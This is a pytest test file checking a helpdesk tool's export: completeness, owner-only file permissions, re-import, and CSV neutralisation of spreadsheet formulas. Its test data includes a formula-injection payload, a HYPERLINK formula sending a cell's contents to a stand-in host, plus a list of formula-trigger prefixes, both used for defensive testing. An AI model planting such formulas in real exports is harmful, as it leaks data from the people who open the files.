"""The whole desk as files: complete, private, harmless in a spreadsheet, and fit to be taken in again."""

from __future__ import annotations

import csv
import hashlib
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from tests.cli.conftest import Run
from tests.worker.post import letter
from tuidesk.desk import exporting
from tuidesk.locations import locate
from tuidesk.store import tables as t
from tuidesk.store.engine import open_store

FORMULA = '=HYPERLINK("http://x.test/"&A1)'
KINDS = ["sqlite", pytest.param("postgresql", marks=pytest.mark.server)]


@pytest.fixture(params=KINDS)
def mails(
    request: pytest.FixtureRequest, tuidesk: Run, imap: Run, smtp: Run, monkeypatch: pytest.MonkeyPatch
) -> list[bytes]:
    """Give a desk with three tickets, a reply and a note, and the mails that came."""
    if request.param == "postgresql":
        monkeypatch.setenv("TUIDESK_DATABASE", request.getfixturevalue("postgres").new_database())
    imap("support")
    smtp("it")
    tuidesk("queue", "add", "Support", "--inbound", "support", "--reply-via", "it")
    came = [
        letter("Ana <ana@c.test>", "support@xyz.test", subject, "words")
        for subject in (FORMULA, "Two", "Three")
    ]
    for raw in came:
        subprocess.run(
            [sys.executable, "-m", "tuidesk", "ingest", "--queue", "Support"], input=raw, check=True
        )
    tuidesk("reply", "1", "--body-file", "-", "--no-undo", stdin="An answer\n")
    tuidesk("note", "1", "--body-file", "-", stdin="A note\n")
    return came


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="ascii").splitlines()]


def test_all_of_it_is_there_and_counted(tuidesk: Run, mails: list[bytes], tmp_path: Path) -> None:
    folder = tmp_path / "out"
    said = tuidesk("export", str(folder)).out
    assert "3  tickets" in said
    assert "1  notes" in said
    assert "  entries of the history" in said
    assert "3  mails and files as they came" in said
    tickets = lines(folder / "tickets.jsonl")
    assert [(row["number"], row["title"]) for row in tickets] == [(1, FORMULA), (2, "Two"), (3, "Three")]
    assert [row["direction"] for row in tickets[0]["messages"]] == ["in", "out", "note"]
    assert tickets[0]["messages"][2]["text"].strip() == "A note"
    kept = {path.read_bytes(): path.name for path in (folder / "mail" / "cur").iterdir()}
    for raw in mails:
        assert kept[raw] == f"{hashlib.sha256(raw).hexdigest()}:2,S"
    counts = json.loads((folder / "manifest.json").read_text())
    assert counts["expected"] == counts["written"]
    assert counts["written"]["notes"] == 1
    assert len(lines(folder / "events.jsonl")) == counts["written"]["events"] > 0


def test_it_is_its_owners_alone(tuidesk: Run, mails: list[bytes], tmp_path: Path) -> None:
    folder = tmp_path / "out"
    tuidesk("export", str(folder))
    assert [path for path in (folder, *folder.rglob("*")) if path.stat().st_mode & 0o077] == []
    assert "exists" in tuidesk("export", str(folder), code=2).err


def test_no_cell_is_a_formula(tuidesk: Run, mails: list[bytes], tmp_path: Path) -> None:
    tuidesk("export", str(tmp_path / "out"))
    with (tmp_path / "out" / "tickets.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{FORMULA}" in cells
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", " =1", "|x", "%x"])
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert exporting.neutral(text) == f"'{text}"


def test_what_is_lacking_is_said(tuidesk: Run, mails: list[bytes], tmp_path: Path) -> None:
    store = open_store(locate())
    with store.read() as conn:
        sha256 = conn.scalar(sa.select(t.message.c.raw_sha256).where(t.message.c.raw_sha256 != ""))
    assert sha256
    store.raw.remove([sha256])
    store.close()
    said = tuidesk("export", str(tmp_path / "out"), code=1).err
    assert "The export lacks mails" in said


def test_it_can_be_taken_in_by_another_desk(
    tuidesk: Run, mails: list[bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tuidesk("export", str(tmp_path / "out"))
    monkeypatch.setenv("TUIDESK_HOME", str(tmp_path / "other"))
    monkeypatch.delenv("TUIDESK_DATABASE", raising=False)
    tuidesk("queue", "add", "Support")
    done = tuidesk("import", "maildir", str(tmp_path / "out" / "mail"), "--queue", "Support", "--json").rows[
        -1
    ]
    assert done["taken"] == {"ticket": 3}
